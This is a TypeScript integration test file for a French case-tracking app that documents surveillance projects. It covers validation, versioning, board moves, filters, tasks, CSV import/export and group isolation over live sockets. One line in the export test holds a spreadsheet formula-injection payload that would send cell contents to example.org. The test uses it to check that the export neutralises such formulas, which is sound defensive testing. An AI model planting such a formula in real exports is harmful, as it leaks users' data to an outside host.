import {
  type Case,
  type CaseEvent,
  type CaseSummary,
  type ImportReport,
  type Task,
  type TimelineEntry,
} from '@technopolice/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN,
  ADMIN_ENV,
  join,
  newGroup,
  newPerson,
  type Person,
  tokenFor,
} from './support/identity.js';
import { type ClientSocket, connectSocket, nextEvent } from './support/sockets.js';
import { backend, request, startTestApp, type TestApp } from './support/test-app.js';

type Page<T> = { items: T[]; nextCursor: string | null };

const MARSEILLE = {
  title: 'Marseille — vidéosurveillance algorithmique (Thales)',
  cityCode: '13055',
  technologies: ['algorithmic-video-surveillance'],
  projectStatus: 'deployed',
  actors: [
    { name: 'Thales', kind: 'vendor', role: 'fournisseur du logiciel' },
    { name: 'Ville de Marseille', kind: 'public-body', role: 'commanditaire' },
  ],
  budgetEuros: 1_800_000,
  budgetSource: 'Délibération du conseil municipal',
  tags: ['VSA', 'Safe City'],
};

describe(`cases on ${backend}`, () => {
  let t: TestApp;
  let alice: Person; // admin of the group
  let bob: Person; // member
  let outsider: Person;
  let groupId: string;

  beforeAll(async () => {
    t = await startTestApp({ env: ADMIN_ENV });
    const adminToken = await tokenFor(t, ADMIN.username, ADMIN.password);
    alice = await newPerson(t, adminToken, 'Alice');
    bob = await newPerson(t, adminToken, 'Bob');
    outsider = await newPerson(t, adminToken, 'Outsider');
    groupId = (await newGroup(t, alice, 'Technopolice Marseille')).id;
    await join({ id: groupId }, alice, bob);
    await newGroup(t, outsider, 'Elsewhere');
  });
  afterAll(() => t?.close());

  const createCase = async (who: Person, body: Record<string, unknown> = MARSEILLE) => {
    const res = await who.api.post<Case>(`/api/groups/${groupId}/cases`, body);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    return res.body;
  };
  const listCases = async (query = '') =>
    (await alice.api.get<Page<CaseSummary>>(`/api/cases?groupId=${groupId}${query}`)).body.items;

  it('opens a case with the city from the gazetteer, its actors, budget and tags', async () => {
    const created = await createCase(bob);
    expect(created).toMatchObject({
      groupId,
      slug: 'marseille-videosurveillance-algorithmique-thales',
      title: MARSEILLE.title,
      stage: 'open',
      projectStatus: 'deployed',
      city: {
        code: '13055',
        name: 'Marseille',
        departmentCode: '13',
        departmentName: 'Bouches-du-Rhône',
      },
      technologies: ['algorithmic-video-surveillance'],
      tags: ['vsa', 'safe city'],
      budgetEuros: 1_800_000,
      budgetSource: 'Délibération du conseil municipal',
      version: 1,
      seq: 1,
      createdBy: { id: bob.id, displayName: 'Bob' },
      timeline: [],
      tasks: [],
    });
    expect(created.city.lat).toBeCloseTo(43.3, 0);
    expect(created.city.lng).toBeCloseTo(5.4, 0);
    expect(created.actors.map((a) => [a.name, a.kind, a.role])).toEqual([
      ['Thales', 'vendor', 'fournisseur du logiciel'],
      ['Ville de Marseille', 'public-body', 'commanditaire'],
    ]);
    const again = await createCase(alice);
    expect(again.slug).toBe('marseille-videosurveillance-algorithmique-thales-2');
    // Actors are the group's: the second case names the same Thales.
    expect(again.actors[0]!.id).toBe(created.actors[0]!.id);
    const actors = await alice.api.get<Page<{ name: string }>>(
      `/api/groups/${groupId}/actors?q=thal`,
    );
    expect(actors.body.items.map((a) => a.name)).toEqual(['Thales']);

    const fetched = await alice.api.get<Case>(`/api/cases/${created.id}`);
    expect(fetched.body).toEqual(created);
    const events = await alice.api.get<Page<CaseEvent>>(`/api/cases/${created.id}/events`);
    expect(events.body.items).toMatchObject([
      { seq: 1, type: 'case.created', actor: { id: bob.id, displayName: 'Bob' } },
    ]);
  });

  it('refuses an unknown INSEE code, technology or field, naming it, and writes nothing', async () => {
    const before = await listCases();
    const cases: [Record<string, unknown>, string, number][] = [
      [{ ...MARSEILLE, cityCode: '99999' }, 'cityCode', 400],
      [{ ...MARSEILLE, cityCode: 'Marseille' }, 'cityCode', 400],
      [{ ...MARSEILLE, technologies: ['mind-reading'] }, 'technologies.0', 400],
      [{ ...MARSEILLE, technologies: [] }, 'technologies', 400],
      [{ ...MARSEILLE, projectStatus: 'rumoured' }, 'projectStatus', 400],
      [{ ...MARSEILLE, budgetEuros: -5 }, 'budgetEuros', 400],
      [{ ...MARSEILLE, owner: 'me' }, '(body)', 400],
      [{ ...MARSEILLE, stage: 'published' }, 'stage', 409],
      // A review is asked for from drafting, not opened as such.
      [{ ...MARSEILLE, stage: 'review' }, 'stage', 409],
      [{ ...MARSEILLE, budgetEuros: 1e12 }, 'budgetEuros', 400],
      [{ ...MARSEILLE, title: 'Nul\u0000caractère' }, 'title', 400],
      [{ ...MARSEILLE, tags: ['ok', 'pas\u0007ok'] }, 'tags.1', 400],
      [{ ...MARSEILLE, actors: [{ name: '   ' }] }, 'actors.0.name', 400],
    ];
    for (const [body, path, status] of cases) {
      const res = await alice.api.post<{ code: string; details: { path: string }[] }>(
        `/api/groups/${groupId}/cases`,
        body,
      );
      expect(res.status, path).toBe(status);
      expect(
        res.body.details?.map((d) => d.path),
        path,
      ).toContain(path);
    }
    expect(await listCases()).toEqual(before);
  });

  it('edits facts with optimistic locking: a stale version answers 409 and changes nothing', async () => {
    const created = await createCase(alice, {
      ...MARSEILLE,
      title: 'Nice — reconnaissance faciale',
    });
    const first = await alice.api.patch<Case>(`/api/cases/${created.id}`, {
      version: 1,
      title: 'Nice — reconnaissance faciale au carnaval',
      cityCode: '06088',
      technologies: ['facial-recognition', 'algorithmic-video-surveillance'],
      actors: [{ name: 'Thales', kind: 'vendor', role: 'expérimentation' }],
    });
    expect(first.status, JSON.stringify(first.body)).toBe(200);
    expect(first.body).toMatchObject({
      version: 2,
      title: 'Nice — reconnaissance faciale au carnaval',
      city: { code: '06088', name: 'Nice', departmentCode: '06' },
      technologies: ['facial-recognition', 'algorithmic-video-surveillance'],
      // The slug stays: links to the case keep working.
      slug: created.slug,
    });
    const stale = await bob.api.patch<{ code: string; details: { path: string }[] }>(
      `/api/cases/${created.id}`,
      { version: 1, title: 'Overwritten' },
    );
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({ code: 'stale_version', details: [{ path: 'version' }] });
    const unknownCity = await bob.api.patch<{ details: { path: string }[] }>(
      `/api/cases/${created.id}`,
      { version: 2, cityCode: '00000', title: 'Half written' },
    );
    expect(unknownCity.status).toBe(400);
    expect(unknownCity.body.details).toEqual([
      { path: 'cityCode', message: 'no French commune has the INSEE code 00000' },
    ]);
    const now = await alice.api.get<Case>(`/api/cases/${created.id}`);
    expect(now.body).toEqual(first.body);

    const events = await alice.api.get<Page<CaseEvent>>(`/api/cases/${created.id}/events`);
    expect(events.body.items[0]).toMatchObject({
      seq: 2,
      type: 'case.updated',
      payload: {
        changes: {
          title: {
            from: 'Nice — reconnaissance faciale',
            to: 'Nice — reconnaissance faciale au carnaval',
          },
          cityCode: { from: '13055', to: '06088', fromName: 'Marseille', toName: 'Nice' },
        },
      },
    });
  });

  it('versions a change of actors alone, and gives two equal titles created at once distinct slugs', async () => {
    const c = await createCase(alice, { ...MARSEILLE, title: 'Acteurs seuls' });
    const changed = await alice.api.patch<Case>(`/api/cases/${c.id}`, {
      version: c.version,
      actors: [{ name: 'Engie Solutions', kind: 'vendor', role: 'intégrateur' }],
    });
    expect(changed.body).toMatchObject({
      version: c.version + 1,
      actors: [{ name: 'Engie Solutions' }],
    });
    const stale = await bob.api.patch(`/api/cases/${c.id}`, {
      version: c.version,
      actors: [{ name: 'Thales' }],
    });
    expect(stale.status).toBe(409);
    const [latest] = (await alice.api.get<Page<CaseEvent>>(`/api/cases/${c.id}/events`)).body.items;
    expect(latest).toMatchObject({
      type: 'case.updated',
      payload: { changes: { actors: { to: ['Engie Solutions'] } } },
    });

    const twins = await Promise.all(
      [alice, bob].map((who) => createCase(who, { ...MARSEILLE, title: 'Jumeaux' })),
    );
    expect(twins.map((t) => t.slug).sort()).toEqual(['jumeaux', 'jumeaux-2']);
  });

  it('moves cases on the board within the workflow: never to published by hand', async () => {
    const one = await createCase(alice, {
      ...MARSEILLE,
      title: 'Toulouse — police prédictive',
      cityCode: '31555',
    });
    const forbidden: [string, string, number][] = [
      ['open', 'published', 1],
      ['open', 'review', 1],
    ];
    for (const [, to, version] of forbidden) {
      const res = await alice.api.patch<{ code: string; details: { path: string }[] }>(
        `/api/cases/${one.id}`,
        { version, stage: to },
      );
      expect(res.status, to).toBe(409);
      expect(res.body).toMatchObject({ code: 'stage_forbidden', details: [{ path: 'stage' }] });
    }
    const moved = await bob.api.patch<Case>(`/api/cases/${one.id}`, {
      version: 1,
      stage: 'drafting',
      position: 10.5,
    });
    expect(moved.body).toMatchObject({ stage: 'drafting', position: 10.5, version: 2 });
    const review = await bob.api.patch<Case>(`/api/cases/${one.id}`, {
      version: 2,
      stage: 'review',
    });
    expect(review.status).toBe(200);
    const events = await alice.api.get<Page<CaseEvent>>(`/api/cases/${one.id}/events`);
    expect(events.body.items.slice(0, 2).map((e) => [e.type, e.payload])).toEqual([
      ['case.moved', { from: 'drafting', to: 'review' }],
      ['case.moved', { from: 'open', to: 'drafting' }],
    ]);

    // Reordering within a column sorts the board by position.
    const a = await createCase(alice, { ...MARSEILLE, title: 'Ordre A', stage: 'investigating' });
    const b = await createCase(alice, { ...MARSEILLE, title: 'Ordre B', stage: 'investigating' });
    // New cases go on top.
    expect(b.position).toBeLessThan(a.position);
    await alice.api.patch(`/api/cases/${a.id}`, { version: a.version, position: b.position - 1 });
    const column = await listCases('&stage=investigating&sort=stage');
    expect(column.map((c) => c.title)).toEqual(['Ordre A', 'Ordre B']);
  });

  it('filters by stage, technology, status, city, assignee and text (accents ignored)', async () => {
    const strasbourg = await createCase(alice, {
      title: 'Strasbourg — drones de la police municipale',
      cityCode: '67482',
      technologies: ['drones'],
      projectStatus: 'experiment',
    });
    const task = await alice.api.post<Task>(`/api/cases/${strasbourg.id}/tasks`, {
      title: 'Demande CADA à la mairie',
      assigneeId: bob.id,
      dueDate: '2026-12-15',
    });
    expect(task.status).toBe(201);
    const titles = async (query: string) => (await listCases(query)).map((c) => c.title);
    expect(await titles('&technology=drones')).toEqual([strasbourg.title]);
    expect(await titles('&cityCode=67482')).toEqual([strasbourg.title]);
    expect(await titles('&projectStatus=experiment')).toEqual([strasbourg.title]);
    expect(await titles(`&assigneeId=${bob.id}`)).toEqual([strasbourg.title]);
    expect(await titles('&q=STRASBOURG%20%E2%80%94%20DRONES')).toEqual([strasbourg.title]);
    expect(await titles('&q=municipale&technology=drones,facial-recognition')).toEqual([
      strasbourg.title,
    ]);
    expect(await titles('&q=d%C3%A9sert')).toEqual([]);
    const [summary] = await listCases('&technology=drones');
    expect(summary).toMatchObject({
      openTasks: 1,
      assignees: [{ id: bob.id, displayName: 'Bob' }],
    });

    const bad = await alice.api.get<{ details: { path: string }[] }>(
      `/api/cases?groupId=${groupId}&stage=someday`,
    );
    expect(bad.status).toBe(400);
    expect(bad.body.details[0]!.path).toBe('stage');
    // Another group's list is not found, and no filter reaches its cases.
    expect((await outsider.api.get(`/api/cases?groupId=${groupId}`)).status).toBe(404);
    expect((await outsider.api.get<Page<CaseSummary>>('/api/cases')).body.items).toEqual([]);

    // Pages: a cursor continues where the last page stopped, without repeats.
    const all = await listCases('&sort=title');
    const first = await alice.api.get<Page<CaseSummary>>(
      `/api/cases?groupId=${groupId}&sort=title&limit=2`,
    );
    const second = await alice.api.get<Page<CaseSummary>>(
      `/api/cases?groupId=${groupId}&sort=title&limit=2&cursor=${first.body.nextCursor}`,
    );
    expect([...first.body.items, ...second.body.items].map((c) => c.id)).toEqual(
      all.slice(0, 4).map((c) => c.id),
    );
  });

  it('keeps tasks and a timeline, each change in the event log', async () => {
    const c = await createCase(alice, {
      ...MARSEILLE,
      title: 'Valenciennes — caméras Huawei',
      cityCode: '59606',
    });
    const notMember = await alice.api.post<{ details: { path: string }[] }>(
      `/api/cases/${c.id}/tasks`,
      { title: 'Assign to a stranger', assigneeId: outsider.id },
    );
    expect(notMember.status).toBe(400);
    expect(notMember.body.details[0]!.path).toBe('assigneeId');

    const task = (
      await bob.api.post<Task>(`/api/cases/${c.id}/tasks`, { title: 'Envoyer la demande CADA' })
    ).body;
    const done = await bob.api.patch<Task>(`/api/cases/${c.id}/tasks/${task.id}`, {
      done: true,
      assigneeId: bob.id,
    });
    expect(done.body).toMatchObject({ done: true, assignee: { id: bob.id }, dueDate: null });

    const entry = await alice.api.post<TimelineEntry>(`/api/cases/${c.id}/timeline`, {
      date: '2017-03-20',
      title: 'Délibération : 240 caméras offertes par Huawei',
    });
    expect(entry.status).toBe(201);
    const earlier = await alice.api.post<TimelineEntry>(`/api/cases/${c.id}/timeline`, {
      date: '2016-12-01',
      title: 'Annonce du maire',
    });
    const citing = await alice.api.post<{ details: { path: string }[] }>(
      `/api/cases/${c.id}/timeline`,
      { date: '2018-01-01', title: 'Contrat', documentId: '00000000-0000-4000-8000-000000000000' },
    );
    expect(citing.status).toBe(400);
    expect(citing.body.details[0]!.path).toBe('documentId');
    expect(
      (await alice.api.post(`/api/cases/${c.id}/timeline`, { date: '2018-02-30', title: 'x' }))
        .status,
    ).toBe(400);
    for (const date of ['0000-01-01', '2999-01-01']) {
      const res = await alice.api.post(`/api/cases/${c.id}/timeline`, { date, title: 'x' });
      expect(res.status, date).toBe(400);
    }

    await alice.api.patch(`/api/cases/${c.id}/timeline/${earlier.body.id}`, {
      title: 'Annonce du maire en conseil',
    });
    const full = (await alice.api.get<Case>(`/api/cases/${c.id}`)).body;
    expect(full.timeline.map((e) => [e.date, e.title])).toEqual([
      ['2016-12-01', 'Annonce du maire en conseil'],
      ['2017-03-20', 'Délibération : 240 caméras offertes par Huawei'],
    ]);
    expect(full.tasks).toEqual([done.body]);
    expect((await alice.api.delete(`/api/cases/${c.id}/tasks/${task.id}`)).status).toBe(204);
    expect((await alice.api.delete(`/api/cases/${c.id}/timeline/${entry.body.id}`)).status).toBe(
      204,
    );

    const log = await alice.api.get<Page<CaseEvent>>(`/api/cases/${c.id}/events?after=0`);
    expect(log.body.items.map((e) => e.type)).toEqual([
      'case.created',
      'task.created',
      'task.completed',
      'task.updated',
      'timeline.created',
      'timeline.created',
      'timeline.updated',
      'task.deleted',
      'timeline.deleted',
    ]);
    expect(log.body.items.map((e) => e.seq)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9]);
    const after = await alice.api.get<Page<CaseEvent>>(`/api/cases/${c.id}/events?after=7`);
    expect(after.body.items.map((e) => e.seq)).toEqual([8, 9]);
    const before = await alice.api.get<Page<CaseEvent>>(
      `/api/cases/${c.id}/events?before=4&limit=2`,
    );
    expect(before.body).toMatchObject({ items: [{ seq: 3 }, { seq: 2 }], nextCursor: '2' });
  });

  it('lets only admins and coordinators delete a case, and audits it', async () => {
    const c = await createCase(bob, { ...MARSEILLE, title: 'À supprimer' });
    const refused = await bob.api.delete(`/api/cases/${c.id}`);
    expect(refused.status).toBe(403);
    expect((await alice.api.delete(`/api/cases/${c.id}`)).status).toBe(204);
    expect((await alice.api.get(`/api/cases/${c.id}`)).status).toBe(404);
    const audit = await alice.api.get<Page<{ type: string; data: Record<string, unknown> }>>(
      `/api/groups/${groupId}/audit`,
    );
    expect(audit.body.items[0]).toMatchObject({
      type: 'case.deleted',
      data: { caseId: c.id, title: 'À supprimer' },
    });
  });

  it('exports CSV and JSON and imports CSV, keeping good rows and reporting bad ones', async () => {
    const csv = await request(`${t.url}/api/groups/${groupId}/cases/export?format=csv`, {
      headers: { authorization: `Bearer ${bob.token}` },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toMatch(
      /^attachment; filename="dossiers-.*\.csv"$/,
    );
    const [header, ...lines] = csv.text
      .replace(/^\ufeff/, '')
      .trim()
      .split('\n');
    expect(header).toBe(
      'title,cityCode,city,department,stage,projectStatus,technologies,tags,budgetEuros,budgetSource,actors,description,createdAt,updatedAt,url',
    );
    expect(lines.find((line) => line.includes('Strasbourg'))).toContain(
      ',67482,Strasbourg,67,open,experiment,drones,',
    );
    const json = await request<{ items: Case[] }>(
      `${t.url}/api/groups/${groupId}/cases/export?format=json`,
      { headers: { authorization: `Bearer ${bob.token}` } },
    );
    expect(json.body.items.length).toBe(lines.length);
    expect(json.body.items[0]).toHaveProperty('timeline');

    // Round trip: the export imports into another group as it is.
    const other = await newGroup(t, alice, 'Technopolice Toulouse');
    const roundTrip = await importCsv(alice, other.id, csv.text);
    expect(roundTrip.status).toBe(200);
    expect(roundTrip.body.rejected).toEqual([]);
    expect(roundTrip.body.created.length).toBe(lines.length);

    const file = [
      'title,cityCode,city,department,technologies,stage,projectStatus,budgetEuros,actors,tags',
      'Saint-Étienne — micros dans la rue,42218,,,Capteurs sonores,En enquête,Expérimentation,"1 200 000,50 €",Serenicity (vendor: capteurs),sons',
      'Sans ville,,,,drones,,,,,',
      'Paris — drones,,Paris,,drones; facial-recognition,,,,,',
      'Technologie inconnue,13055,,,mind-reading,,,,,',
      ',13055,,,drones,,,,,',
      'Publié en douce,13055,,,drones,published,,,,',
      'Saint-Denis ambigu,,Saint-Denis,,drones,,,,,',
      'Saint-Denis de La Réunion,,Saint-Denis,974,drones,,,,,',
    ].join('\n');
    const report = await importCsv(alice, other.id, file);
    expect(report.status, JSON.stringify(report.body)).toBe(200);
    expect(report.body.created.map((c) => [c.row, c.title])).toEqual([
      [2, 'Saint-Étienne — micros dans la rue'],
      [4, 'Paris — drones'],
      [9, 'Saint-Denis de La Réunion'],
    ]);
    expect(report.body.rejected.map((r) => [r.row, r.errors.map((e) => e.path)])).toEqual([
      [3, ['cityCode']],
      [5, ['technologies']],
      [6, ['title']],
      [7, ['stage']],
      [8, ['city']],
    ]);
    const imported = await alice.api.get<Case>(`/api/cases/${report.body.created[0]!.id}`);
    expect(imported.body).toMatchObject({
      stage: 'investigating',
      projectStatus: 'experiment',
      technologies: ['sound-sensors'],
      budgetEuros: 1_200_000.5,
      tags: ['sons'],
      city: { name: 'Saint-Étienne' },
      actors: [{ name: 'Serenicity', kind: 'vendor', role: 'capteurs' }],
    });

    // A title that a spreadsheet would run as a formula is exported inert, and imports back as it was.
    const formula = '=HYPERLINK("http://example.org/?"&A2;"voir")';
    await createCase(alice, { ...MARSEILLE, title: formula });
    const exported = await request(`${t.url}/api/groups/${groupId}/cases/export`, {
      headers: { authorization: `Bearer ${alice.token}` },
    });
    expect(exported.text).toContain(`'=HYPERLINK`);
    const third = await newGroup(t, alice, 'Technopolice Nice');
    const back = await importCsv(alice, third.id, exported.text);
    expect(back.body.created.map((c) => c.title)).toContain(formula);

    // Spreadsheets set in French separate cells with semicolons.
    const semicolons = await importCsv(
      alice,
      third.id,
      'title;cityCode;technologies\nNice — drones de la plage;06088;Drones\n',
    );
    expect(semicolons.body.created.map((c) => c.title)).toEqual(['Nice — drones de la plage']);

    // Members do not import; a JSON body is not a CSV; another group's import is not found.
    expect((await importCsv(bob, groupId, file)).status).toBe(403);
    expect(
      (await alice.api.post(`/api/groups/${other.id}/cases/import`, { csv: file })).status,
    ).toBe(415);
    expect((await importCsv(outsider, other.id, file)).status).toBe(404);
  });

  const importCsv = (who: Person, id: string, body: string) =>
    request<ImportReport>(`${t.url}/api/groups/${id}/cases/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${who.token}`, 'content-type': 'text/csv' },
      body,
    });

  it('finds communes by name for the city picker', async () => {
    const res = await alice.api.get<Page<{ code: string; name: string }>>(
      '/api/cities?q=st%20etienne',
    );
    expect(res.body.items[0]).toMatchObject({ code: '42218', name: 'Saint-Étienne' });
    expect((await alice.api.get('/api/cities/13055')).body).toMatchObject({ name: 'Marseille' });
    expect((await alice.api.get('/api/cities/99999')).status).toBe(404);
    expect((await alice.api.get('/api/cities?q=')).status).toBe(400);
  });

  describe('live', () => {
    const sockets: ClientSocket[] = [];
    afterAll(() => sockets.forEach((s) => s.close()));

    const connect = (who: Person) => connectSocket(t.url, who.token, sockets);
    const next = nextEvent;

    it('shows moves and edits to the board and the case, and who is viewing', async () => {
      const c = await createCase(alice, { ...MARSEILLE, title: 'Live' });
      const board = await connect(bob);
      expect(await board.emitWithAck('group:join', groupId)).toEqual({ ok: true });
      const viewer = await connect(bob);
      const bobPresence = next(viewer, 'presence', (p) => p.users.length === 1);
      expect(await viewer.emitWithAck('case:join', c.id)).toEqual({ ok: true, seq: 1 });
      expect((await bobPresence).users).toEqual([{ id: bob.id, displayName: 'Bob' }]);

      const aliceSocket = await connect(alice);
      const both = next(viewer, 'presence', (p) => p.users.length === 2);
      await aliceSocket.emitWithAck('case:join', c.id);
      expect((await both).users.map((u) => u.displayName)).toEqual(['Alice', 'Bob']);

      const onBoard = next(board, 'case:updated', (p) => p.caseId === c.id);
      const onCase = next(viewer, 'case:event', (p) => p.caseId === c.id);
      await alice.api.patch(`/api/cases/${c.id}`, { version: 1, stage: 'investigating' });
      expect(await onBoard).toMatchObject({
        caseId: c.id,
        seq: 2,
        case: { stage: 'investigating', version: 2 },
        changes: ['stage', 'position'],
      });
      expect(await onCase).toMatchObject({
        seq: 2,
        event: { type: 'case.moved', payload: { from: 'open', to: 'investigating' } },
      });

      const created = next(board, 'case:created');
      const another = await createCase(alice, { ...MARSEILLE, title: 'Nouveau en direct' });
      expect(await created).toMatchObject({
        caseId: another.id,
        case: { title: 'Nouveau en direct' },
      });

      // Alice leaves: Bob's page shows him alone again.
      const alone = next(viewer, 'presence', (p) => p.users.length === 1);
      aliceSocket.close();
      expect((await alone).users).toEqual([{ id: bob.id, displayName: 'Bob' }]);

      // What a client missed while away comes from the event log, without gap or repeat.
      await alice.api.post(`/api/cases/${c.id}/tasks`, { title: 'Pendant la coupure' });
      const missed = await bob.api.get<Page<CaseEvent>>(`/api/cases/${c.id}/events?after=2`);
      expect(missed.body.items.map((e) => [e.seq, e.type])).toEqual([[3, 'task.created']]);
    });

    it('stops sending anything to a member once they are removed from the group', async () => {
      const c = await createCase(alice, { ...MARSEILLE, title: 'Avant le départ' });
      const adminToken = await tokenFor(t, ADMIN.username, ADMIN.password);
      const carol = await newPerson(t, adminToken, 'Carol');
      await join({ id: groupId }, alice, carol);
      const socket = await connect(carol);
      expect(await socket.emitWithAck('group:join', groupId)).toEqual({ ok: true });
      expect(await socket.emitWithAck('case:join', c.id)).toMatchObject({ ok: true });
      const received: string[] = [];
      socket.onAny((event: string) => received.push(event));

      const watcher = await connect(bob);
      await watcher.emitWithAck('case:join', c.id);
      const carolGone = next(watcher, 'presence', (p) => !p.users.some((u) => u.id === carol.id));
      expect((await alice.api.delete(`/api/groups/${groupId}/members/${carol.id}`)).status).toBe(
        204,
      );
      await carolGone;
      received.length = 0;
      const seen = next(watcher, 'case:updated');
      await alice.api.patch(`/api/cases/${c.id}`, { version: 1, title: 'Après le départ' });
      await seen;
      expect(received).toEqual([]);
      expect(await socket.emitWithAck('case:join', c.id)).toEqual({ ok: false, code: 'not_found' });
    });

    it('refuses to join the case or board of another group, and sends it nothing', async () => {
      const c = await createCase(alice, { ...MARSEILLE, title: 'Secret' });
      const spy = await connect(outsider);
      expect(await spy.emitWithAck('case:join', c.id)).toEqual({ ok: false, code: 'not_found' });
      expect(await spy.emitWithAck('group:join', groupId)).toEqual({
        ok: false,
        code: 'not_found',
      });
      expect(await spy.emitWithAck('case:join', 'not-a-uuid')).toEqual({
        ok: false,
        code: 'not_found',
      });
      const received: string[] = [];
      spy.onAny((event: string) => received.push(event));
      const member = await connect(bob);
      await member.emitWithAck('case:join', c.id);
      const seen = next(member, 'case:updated');
      await alice.api.patch(`/api/cases/${c.id}`, { version: 1, title: 'Secret, renamed' });
      await seen;
      expect(received).toEqual([]);
    });
  });
});
